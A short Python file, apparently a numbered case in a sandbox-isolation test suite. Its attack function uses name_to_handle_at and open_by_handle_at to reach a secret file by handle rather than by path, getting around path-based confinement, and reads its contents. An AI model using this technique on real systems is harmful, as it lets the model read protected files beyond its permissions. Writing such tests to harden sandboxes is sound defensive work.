# A2: opens a file by its handle instead of its path, as root may
# Without layers: may succeed
import struct
import sys

AT_FDCWD = -100


def attack(facts):
    ctypes = sys.modules["ctypes"]
    libc, text = ctypes.CDLL(None), ctypes.create_string_buffer(100)
    handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0) + bytes(128))
    mount, path = ctypes.c_int(), facts["secret_file"].encode()
    libc.name_to_handle_at(AT_FDCWD, path, handle, ctypes.byref(mount), 0)
    folder = libc.open(facts["folder"].encode(), 0)
    descriptor = libc.open_by_handle_at(folder, handle, 0)
    libc.read(descriptor, text, 100)
    return text.value.decode()
